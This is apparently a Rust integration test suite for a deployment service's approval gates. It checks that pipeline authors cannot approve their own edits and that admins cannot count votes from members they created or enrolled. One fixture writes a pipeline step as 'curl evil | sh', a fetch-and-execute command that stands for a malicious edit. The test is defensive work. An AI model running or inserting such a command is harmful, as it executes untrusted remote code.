//! Attempts to decide an approval alone: as the author of the definition, and with a person whom an admin has made up.

use greenroom_app::browser_session::new_secret;
use greenroom_domain::text::Email;
use reqwest::Method;
use serde_json::{Value, json};

use crate::approvals::{Approvals, code};
use crate::support::database::TestDatabase;
use crate::support::{COOKIE, Caller, eventually};

const BY_MAINTAINERS: &str = "
environments:
  production: { approval: { roles: [maintainer] } }
stages:
  release: { environment: production, steps: [{ name: roll, image: a, run: b }] }
";
const BY_GROUP: &str = "
environments:
  production: { approval: { groups: [rel], override: none } }
stages:
  release: { environment: production, steps: [{ name: roll, image: a, run: b }] }
";

/// Saves a new version of the definition as this user.
async fn save(approvals: &Approvals, by: &Caller, definition: &str) {
    let (path, body) = ("/organizations/acme/pipelines/shop", json!({ "definition": definition }));
    let (status, saved) = approvals.fixture.server.json(Method::PUT, path, &by.token, Some(body)).await;
    assert_eq!(status, 200, "{saved}");
}

/// Sends a request as this user, which has to succeed. Returns `data`.
async fn call(approvals: &Approvals, by: &Caller, method: Method, path: &str, body: Value) -> Value {
    let body = (!body.is_null()).then_some(body);
    let path = format!("/organizations/acme{path}");
    let (status, response) = approvals.fixture.server.json(method, &path, &by.token, body).await;
    assert!(status.is_success(), "{path}: {response}");
    response["data"].clone()
}

async fn mine(approvals: &Approvals, by: &Caller) -> usize {
    let path = "/organizations/acme/approvals?mine=true";
    let (_, list) = approvals.fixture.server.json(Method::GET, path, &by.token, None).await;
    list["data"].as_array().unwrap().len()
}

/// Signs in with the code of a link. Returns what a request has instead of a token.
async fn use_link(approvals: &Approvals, code: &str) -> String {
    let server = &approvals.fixture.server;
    let request = server.client.post(format!("{}/auth/link", server.base)).header("origin", &server.origin);
    let response = request.json(&json!({ "code": code })).send().await.unwrap();
    assert!(response.status().is_success());
    let field = response.headers()["set-cookie"].to_str().unwrap();
    let value = field.strip_prefix("__Host-greenroom=").unwrap().split(';').next().unwrap();
    format!("{COOKIE}{value}")
}

/// Makes a sign-in link of an admin for a member, and uses it.
async fn enroll(approvals: &Approvals, by: &Caller, user: &str) -> String {
    let made = call(approvals, by, Method::POST, &format!("/members/{user}/sign-in-link"), Value::Null).await;
    use_link(approvals, made["url"].as_str().unwrap().split_once("/welcome#").unwrap().1).await
}

async fn vote(approvals: &Approvals, approval: &Value, token: &str) -> (u16, Value) {
    let body = json!({ "subjectDigest": approval["subjectDigest"] });
    approvals.send(Method::POST, approval, "approve", token, Some(body)).await
}

#[tokio::test]
async fn authors_do_not_approve_what_they_have_written() {
    let (_database, pool) = TestDatabase::create().await;
    let approvals = Approvals::new(&pool, BY_MAINTAINERS).await;
    let (author, starter) = (&approvals.maintainer, &approvals.developer);
    let other = approvals.fixture.server.member(&approvals.fixture.owner, "acme", "maintainer").await;
    // The owner has written the first version.
    let (first, approval) = approvals.waiting(starter).await;
    assert_eq!(mine(&approvals, author).await, 1);
    assert_eq!(approvals.approve(&approval, author).await.0, 200);
    assert!(approvals.fixture.run_next_job(&first, 0).await.ended);
    // The maintainer writes two versions, and another person the last one.
    save(&approvals, author, &BY_MAINTAINERS.replace("run: b", "run: curl evil | sh; b")).await;
    save(&approvals, author, &BY_MAINTAINERS.replace("run: b", "run: c")).await;
    save(&approvals, &approvals.fixture.owner, &BY_MAINTAINERS.replace("run: b", "run: d")).await;
    let (second, approval) = approvals.waiting(starter).await;
    assert_eq!(approval["eligible"], 1, "{approval}");
    let names: Vec<&Value> = approval["authors"].as_array().unwrap().iter().map(|one| &one["id"]).collect();
    assert_eq!(names.len(), 2, "{approval}");
    assert!(names.contains(&&json!(author.user)) && names.contains(&&json!(approvals.fixture.owner.user)));
    let own = approvals.approve(&approval, author).await;
    assert_eq!((code(&own), &own.1["because"]), ((403, "approval_own"), &json!("authored")));
    assert_eq!((mine(&approvals, author).await, mine(&approvals, &other).await), (0, 1));
    let (status, decided) = approvals.approve(&approval, &other).await;
    assert_eq!((status, &decided["data"]["status"]), (200, &json!("approved")), "{decided}");
    assert!(approvals.fixture.run_next_job(&second, 0).await.ended);
    // The stage has succeeded with all of them.
    let (_, approval) = approvals.waiting(starter).await;
    assert_eq!(approval["authors"], json!([]), "{approval}");
    assert_eq!(approvals.approve(&approval, author).await.0, 200);
    approvals.fixture.end().await;
}

/// A deployment that began with an older version shows the newest one after a retry, although its gated stage has not run with it.
#[tokio::test]
async fn a_retry_of_another_stage_does_not_make_a_version_one_that_has_succeeded() {
    let (_database, pool) = TestDatabase::create().await;
    let definition =
        format!("{BY_MAINTAINERS}  smoke: {{ needs: [release], steps: [{{ image: a, run: b }}] }}\n");
    let approvals = Approvals::new(&pool, &definition).await;
    let (author, starter) = (&approvals.maintainer, &approvals.developer);
    let (first, approval) = approvals.waiting(starter).await;
    assert_eq!(approvals.approve(&approval, author).await.0, 200);
    assert!(!approvals.fixture.run_next_job(&first, 0).await.ended);
    assert!(approvals.fixture.run_next_job(&first, 1).await.ended);
    save(
        &approvals,
        author,
        &definition.replace("name: roll, image: a, run: b", "name: roll, image: a, run: evil"),
    )
    .await;
    let path = format!("/deployments/{first}/stages/smoke/retry");
    let retried = call(&approvals, author, Method::POST, &path, json!({ "inputs": "latest" })).await;
    assert_eq!(retried["definitionVersion"], 2, "{retried}");
    assert!(approvals.fixture.run_next_job(&first, 0).await.ended);
    let (_, approval) = approvals.waiting(starter).await;
    let own = approvals.approve(&approval, author).await;
    assert_eq!((code(&own), &own.1["because"]), ((403, "approval_own"), &json!("authored")));
    approvals.fixture.end().await;
}

#[tokio::test]
async fn the_author_may_approve_with_self_approval() {
    let (_database, pool) = TestDatabase::create().await;
    let definition = BY_MAINTAINERS.replace("[maintainer]", "[owner], selfApproval: true");
    let approvals = Approvals::new(&pool, &definition).await;
    let (_, approval) = approvals.waiting(&approvals.fixture.owner).await;
    assert_eq!(mine(&approvals, &approvals.fixture.owner).await, 1);
    assert_eq!(approvals.approve(&approval, &approvals.fixture.owner).await.0, 200);
    approvals.fixture.end().await;
}

#[tokio::test]
async fn an_admin_does_not_approve_with_a_person_made_up_for_it() {
    let (_database, pool) = TestDatabase::create().await;
    let approvals = Approvals::new(&pool, BY_GROUP).await;
    let server = &approvals.fixture.server;
    let admin = server.member(&approvals.fixture.owner, "acme", "admin").await;
    let second_admin = server.member(&approvals.fixture.owner, "acme", "admin").await;
    let group = call(&approvals, &admin, Method::POST, "/groups", json!({ "name": "rel" })).await;
    let members = format!("/groups/{}/members", group["id"].as_str().unwrap());
    let (_, approval) = approvals.waiting(&admin).await;
    let refused = async |token: &str, because: &str| {
        let refused = vote(&approvals, &approval, token).await;
        assert_eq!((code(&refused), &refused.1["because"]), ((403, "approval_not_counted"), &json!(because)));
    };
    // A new member, put into the group, with a link of the same admin, or of another one.
    for by in [&admin, &second_admin] {
        let email = format!("{}@acme.test", uuid::Uuid::now_v7().as_simple());
        let body = json!({ "email": email, "name": "Some One", "role": "viewer" });
        let made_up = call(&approvals, by, Method::POST, "/members", body).await;
        let user = made_up["userId"].as_str().unwrap();
        call(&approvals, by, Method::PUT, &format!("{members}/{user}"), Value::Null).await;
        refused(&enroll(&approvals, by, user).await, "joined_later").await;
    }
    // A member of before who has never signed in.
    let old = &approvals.developer;
    call(&approvals, &second_admin, Method::PUT, &format!("{members}/{}", old.user), Value::Null).await;
    refused(&enroll(&approvals, &admin, &old.user).await, "enrolled").await;
    // A member of before, put into the group by the admin, or by another one.
    let grouped = &approvals.maintainer;
    let path = format!("{members}/{}", grouped.user);
    call(&approvals, &admin, Method::PUT, &path, Value::Null).await;
    refused(&grouped.token, "grouped").await;
    assert_eq!(approvals.read(approval["id"].as_str().unwrap()).await["votes"], json!([]));
    call(&approvals, &second_admin, Method::DELETE, &path, Value::Null).await;
    call(&approvals, &second_admin, Method::PUT, &path, Value::Null).await;
    let (status, decided) = vote(&approvals, &approval, &grouped.token).await;
    assert_eq!((status, &decided["data"]["status"]), (200, &json!("approved")), "{decided}");
    // Who has added the voter to the organization stands beside the vote.
    let by = &decided["data"]["votes"][0]["enrolledBy"]["id"];
    assert_eq!(by, &json!(approvals.fixture.owner.user), "{decided}");
    approvals.fixture.end().await;
}

#[tokio::test]
async fn the_vote_of_a_person_whom_the_operator_has_confirmed_counts() {
    let (_database, pool) = TestDatabase::create().await;
    let approvals = Approvals::new(&pool, BY_GROUP).await;
    let admin = approvals.fixture.server.member(&approvals.fixture.owner, "acme", "admin").await;
    let group = call(&approvals, &admin, Method::POST, "/groups", json!({ "name": "rel" })).await;
    let (_, approval) = approvals.waiting(&admin).await;
    let body = json!({ "email": "real@acme.test", "name": "Real", "role": "viewer" });
    let real = call(&approvals, &admin, Method::POST, "/members", body).await;
    let path =
        format!("/groups/{}/members/{}", group["id"].as_str().unwrap(), real["userId"].as_str().unwrap());
    call(&approvals, &admin, Method::PUT, &path, Value::Null).await;
    let secret = new_secret();
    let store = &approvals.fixture.server.server.app.store;
    let email = Email::new("real@acme.test").unwrap();
    store.create_sign_in_link_for(&email, &secret.hash()).await.unwrap().unwrap();
    let browser = use_link(&approvals, secret.reveal()).await;
    let (status, decided) = vote(&approvals, &approval, &browser).await;
    assert_eq!((status, &decided["data"]["status"]), (200, &json!("approved")), "{decided}");
    assert_eq!(decided["data"]["votes"][0]["enrolledBy"], Value::Null);
    approvals.fixture.end().await;
}

#[tokio::test]
async fn every_member_reads_who_has_enrolled_whom() {
    let (_database, pool) = TestDatabase::create().await;
    let approvals = Approvals::new(&pool, BY_GROUP).await;
    let server = &approvals.fixture.server;
    let admin = server.member(&approvals.fixture.owner, "acme", "admin").await;
    let viewer = server.member(&approvals.fixture.owner, "acme", "viewer").await;
    let group = call(&approvals, &admin, Method::POST, "/groups", json!({ "name": "rel" })).await;
    let user = approvals.developer.user.as_str();
    let path = format!("/groups/{}/members/{user}", group["id"].as_str().unwrap());
    call(&approvals, &admin, Method::PUT, &path, Value::Null).await;
    call(&approvals, &admin, Method::PATCH, &format!("/members/{user}"), json!({ "role": "viewer" })).await;
    enroll(&approvals, &admin, user).await;
    let types = async |by: &Caller, query: &str| {
        let path = format!("/organizations/acme/events?limit=100&actor={}{query}", admin.user);
        let (_, list) = server.json(Method::GET, &path, &by.token, None).await;
        let events = list["data"].as_array().unwrap().iter().rev();
        events.map(|event| event["type"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    let all = ["group.created", "group.member_added", "member.role_changed", "member.sign_in_link_created"];
    let recorded = eventually(std::time::Duration::from_secs(5), async || types(&admin, "").await == all);
    assert!(recorded.await, "{:?}", types(&admin, "").await);
    assert_eq!(types(&viewer, "").await, all[1..]);
    assert_eq!(types(&viewer, "&category=deployment").await, Vec::<String>::new());
    assert_eq!(types(&viewer, "&type=group.member_added").await, all[1..2]);
    approvals.fixture.end().await;
}
